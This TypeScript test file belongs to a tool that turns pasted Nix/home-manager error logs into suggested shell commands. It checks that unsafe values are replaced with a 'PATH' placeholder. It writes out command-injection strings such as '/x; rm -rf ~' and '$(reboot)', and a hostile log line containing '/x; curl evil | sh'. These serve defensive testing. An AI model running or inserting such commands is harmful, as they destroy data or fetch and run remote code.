/** Facts in texts: told as they are in sentences, and only as names in what people copy. */
import { describe, expect, it } from 'vitest';
import { explain } from '../../src/explain/explain.ts';
import { fill, fillCommand } from '../../src/explain/fill.ts';
import { pastedLines } from '../../src/parse/paste.ts';

describe('fill', () => {
  it('says of a fact that is not there that it was not told', () => {
    expect(fill('{path} of {user}', { path: '/a b' })).toBe('/a b of (user not told)');
  });
});

describe('fillCommand', () => {
  it.each([
    ['/home/me/.config/mimeapps.list', '/home/me/.config/mimeapps.list'],
    ['home-manager-me.service', 'home-manager-me.service'],
    ['.#nixosConfigurations.box', '.#nixosConfigurations.box'],
    ['ssh-ng://me@host:2222', 'ssh-ng://me@host:2222'],
    ['/x; rm -rf ~', 'PATH'],
    ['$(reboot)', 'PATH'],
    ['`reboot`', 'PATH'],
    ['a|b', 'PATH'],
    ["it's", 'PATH'],
    ['"; x = "', 'PATH'],
    ['--delete', 'PATH'],
    ['', 'PATH'],
  ])('%s', (path, shown) => {
    expect(fillCommand('mv {path} x', { path })).toBe(`mv ${shown} x`);
  });

  it('has a word to fill in where a fact is not known', () => {
    expect(fillCommand('ls -l {device}', {})).toBe('ls -l DEVICE');
  });

  it('keeps what a hostile log says out of every command, but tells it', () => {
    const log = "Existing file '/x; curl evil | sh' would be clobbered";
    const [one] = explain(pastedLines(log)).explained;
    expect(one?.title).toContain('/x; curl evil | sh');
    const commands = one?.causes.flatMap(({ confirm, remedies }) => [
      confirm ?? '',
      ...remedies.map((remedy) => (remedy.kind === 'command' ? remedy.command : '')),
    ]);
    expect(commands?.join('\n')).not.toContain('evil');
    expect(commands).toContain('mv -i PATH PATH.before-home-manager');
  });
});
